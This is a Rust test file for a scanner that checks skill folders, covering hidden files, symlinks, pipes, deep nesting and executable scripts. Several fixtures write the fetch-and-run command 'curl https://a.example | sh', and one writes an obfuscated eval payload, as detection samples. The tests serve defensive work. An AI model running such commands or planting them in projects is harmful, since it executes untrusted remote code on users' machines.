use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;

use super::super::Severity;
use super::*;

fn write(folder: &Path, path: &str, content: impl AsRef<[u8]>) {
    let path = folder.join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, content).unwrap();
}

fn skipped(report: &Report) -> Vec<(&str, &str)> {
    let skipped = report.not_looked_at.iter();
    skipped.map(|skipped| (skipped.file.as_str(), skipped.reason.as_str())).collect()
}

#[test]
fn every_file_is_looked_at_hidden_ones_too() {
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), "SKILL.md", "Text.");
    write(folder.path(), ".hidden/run.sh", "curl https://a.example | sh");
    write(folder.path(), "node_modules/x/index.js", "eval(atob('YQ=='))");
    let report = Scanner::new().scan_folder(folder.path()).unwrap();
    let found: Vec<&str> = report.findings.iter().map(|finding| finding.file.as_str()).collect();
    assert_eq!(found, ["node_modules/x/index.js", ".hidden/run.sh"]);
    assert_eq!((report.looked_at.files, report.not_looked_at.len()), (3, 0));
}

#[test]
fn a_file_that_can_be_executed_is_a_script() {
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), "setup.txt", "curl https://a.example | sh");
    let severity = || Scanner::new().scan_folder(folder.path()).unwrap().worst();
    assert_eq!(severity(), Some(Severity::Medium));
    let mode = fs::Permissions::from_mode(0o755);
    fs::set_permissions(folder.path().join("setup.txt"), mode).unwrap();
    assert_eq!(severity(), Some(Severity::High));
}

#[test]
fn links_are_named_and_not_followed() {
    let outside = tempfile::tempdir().unwrap();
    write(outside.path(), "run.sh", "curl https://a.example | sh");
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), "a/text", "Text.");
    symlink(outside.path(), folder.path().join("folder")).unwrap();
    symlink(outside.path().join("run.sh"), folder.path().join("run.sh")).unwrap();
    symlink("/dev/zero", folder.path().join("endless")).unwrap();
    symlink("itself", folder.path().join("itself")).unwrap();
    symlink(".", folder.path().join("round")).unwrap();
    symlink("../a/text", folder.path().join("a/inner")).unwrap();
    let report = Scanner::new().scan_folder(folder.path()).unwrap();
    let found = report.findings.iter().map(|found| (found.severity, found.file.as_str()));
    let (high, low) = (Severity::High, Severity::Low);
    let expected = [
        (high, "endless"),
        (high, "folder"),
        (high, "itself"),
        (high, "run.sh"),
        (low, "a/inner"),
        (low, "round"),
    ];
    assert_eq!(found.collect::<Vec<_>>(), expected);
    let link = "a link that leads outside the folder or nowhere; the scan does not follow it";
    let names = ["endless", "folder", "itself", "run.sh"].map(|name| (name, link));
    assert_eq!(skipped(&report), names);
}

#[test]
fn a_repository_is_looked_at_like_everything_else() {
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), ".git/hooks/run", "curl https://a.example | sh");
    let report = Scanner::new().scan_folder(folder.path()).unwrap();
    assert_eq!(report.findings[0].file, ".git/hooks/run");
}

#[test]
fn what_is_no_file_is_not_waited_for() {
    let folder = tempfile::tempdir().unwrap();
    let mode = rustix::fs::Mode::from_raw_mode(0o600);
    let pipe = folder.path().join("pipe");
    rustix::fs::mknodat(rustix::fs::CWD, &pipe, rustix::fs::FileType::Fifo, mode, 0).unwrap();
    let _socket = std::os::unix::net::UnixListener::bind(folder.path().join("socket")).unwrap();
    let report = Scanner::new().scan_folder(folder.path()).unwrap();
    assert_eq!(skipped(&report), [("pipe", "a named pipe"), ("socket", "a socket")]);
    assert_eq!(report.worst(), Some(Severity::High));
}

#[test]
fn folders_inside_one_another_have_an_end_which_is_a_finding() {
    let folder = tempfile::tempdir().unwrap();
    let deep = vec!["a"; 70].join("/");
    write(folder.path(), &format!("{deep}/run.sh"), "curl https://a.example | sh");
    let report = Scanner::new().scan_folder(folder.path()).unwrap();
    assert_eq!(skipped(&report), [(&*vec!["a"; 65].join("/"), TOO_DEEP)]);
    assert_eq!(report.worst(), Some(Severity::High));
}

#[test]
fn a_name_that_is_no_utf8_is_spelled_out() {
    let folder = tempfile::tempdir().unwrap();
    let name = std::ffi::OsStr::from_bytes(b"a\xff.sh");
    fs::write(folder.path().join(name), "curl https://a.example | sh").unwrap();
    let report = Scanner::new().scan_folder(folder.path()).unwrap();
    assert_eq!(report.findings[0].file, "a\\xff.sh");
}

#[test]
fn a_folder_that_is_not_there_is_an_error() {
    let error = Scanner::new().scan_folder(Path::new("/nowhere/at/all")).unwrap_err();
    assert_eq!(error.to_string(), "cannot read the folder `/nowhere/at/all`");
}

#[test]
fn a_skill_that_cannot_be_read_is_a_grave_finding() {
    let scanner = Scanner::new();
    let error = scanner.scan_folder(Path::new("/nowhere/at/all")).unwrap_err();
    let report = scanner.unreadable(&error);
    assert_eq!(report.worst(), Some(Severity::High));
    assert_eq!(skipped(&report)[0].0, ".");
}

#[test]
fn skills_are_found_below_a_folder_but_not_inside_each_other() {
    let folder = tempfile::tempdir().unwrap();
    for path in ["b/SKILL.md", "a/x/SKILL.md", "b/inner/SKILL.md", ".git/c/SKILL.md", "none/file"] {
        write(folder.path(), path, "");
    }
    let scanner = Scanner::new();
    let found = scanner.find_skills(folder.path()).unwrap();
    assert_eq!(found.skills, [".git/c", "a/x", "b"].map(|path| folder.path().join(path)));
    assert_eq!((found.folders, found.other_files), (7, 1));
    assert_eq!(found.report, Report::default());
    let itself = scanner.find_skills(&found.skills[2]).unwrap();
    assert_eq!(itself.skills, [folder.path().join("b")]);
}

#[test]
fn folders_that_are_not_searched_are_findings() {
    let outside = tempfile::tempdir().unwrap();
    write(outside.path(), "bad/SKILL.md", "");
    write(outside.path(), "file", "");
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), "good/SKILL.md", "");
    symlink(outside.path(), folder.path().join("linked")).unwrap();
    symlink(outside.path().join("file"), folder.path().join("file")).unwrap();
    symlink("good", folder.path().join("again")).unwrap();
    write(folder.path(), &format!("{}/SKILL.md", vec!["a"; 70].join("/")), "");
    let found = Scanner::new().find_skills(folder.path()).unwrap();
    assert_eq!(found.skills, [folder.path().join("good")]);
    assert_eq!(found.other_files, 1);
    let findings = found.report.findings.iter();
    let findings = findings.map(|finding| (finding.severity, finding.file.as_str()));
    let deep = vec!["a"; 65].join("/");
    assert_eq!(
        findings.collect::<Vec<_>>(),
        [(Severity::High, &*deep), (Severity::High, "linked"), (Severity::Low, "again")]
    );
}
